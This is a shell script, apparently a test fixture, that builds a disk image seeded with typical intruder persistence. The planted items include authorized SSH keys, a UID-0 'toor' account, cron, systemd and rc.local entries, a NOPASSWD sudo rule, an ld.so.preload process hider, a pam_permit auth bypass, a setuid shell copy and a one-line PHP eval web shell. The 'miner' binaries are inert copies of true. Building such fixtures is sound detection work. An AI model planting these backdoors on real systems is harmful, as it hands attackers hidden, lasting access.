# What an intruder leaves behind, each where it usually is.
printf 'label: gpt\n,,L\n' | partitioned "$DISK"
mkfs.ext4 -q "$DISK-part1"
mount "$DISK-part1" /mnt
linux_root /mnt owned.example.org 6.1.0-21-amd64 debian 12 'Debian GNU/Linux 12 (bookworm)'
echo "UUID=$(uuid "$DISK-part1") / ext4 defaults 0 1" >/mnt/etc/fstab
mkdir -p /mnt/root/.ssh /mnt/home/alice/.ssh /mnt/etc/cron.d /mnt/var/spool/cron/crontabs /mnt/etc/systemd/system \
  /mnt/etc/sudoers.d /mnt/etc/pam.d /mnt/var/www/html/uploads /mnt/tmp/.x /mnt/dev/shm /mnt/var/tmp
ssh-keygen -q -t ed25519 -N '' -C mdrfckr -f /var/tmp/key
mv /var/tmp/key.pub /mnt/root/.ssh/authorized_keys
rm /var/tmp/key
cp /mnt/root/.ssh/authorized_keys /mnt/home/alice/.ssh/authorized_keys
echo 'toor:x:0:0::/root:/bin/bash' >>/mnt/etc/passwd
echo '* * * * * root /tmp/.x/miner' >/mnt/etc/cron.d/.update
echo '@reboot /var/tmp/.cache/run' >/mnt/var/spool/cron/crontabs/root
printf '[Service]\nExecStart=/tmp/.x/miner\n' >/mnt/etc/systemd/system/systemd-networkd-wait.service
printf '[Timer]\nOnBootSec=1\n' >/mnt/etc/systemd/system/update.timer
echo 'alice ALL=(ALL) NOPASSWD:ALL' >/mnt/etc/sudoers.d/90-x
echo '/usr/local/lib/libprocesshider.so' >/mnt/etc/ld.so.preload
echo 'auth sufficient pam_permit.so' >/mnt/etc/pam.d/common-auth
printf '#!/bin/sh\n/tmp/.x/miner &\n' >/mnt/etc/rc.local
chmod 755 /mnt/etc/rc.local
cp /mnt/usr/bin/true /mnt/usr/bin/.sh
chmod 4755 /mnt/usr/bin/.sh
cp /mnt/usr/bin/true /mnt/tmp/.x/miner
cp /mnt/usr/bin/true /mnt/dev/shm/kdevtmpfsi
echo '<?php @eval($_POST["x"]); ?>' >/mnt/var/www/html/uploads/x.php
umount /mnt
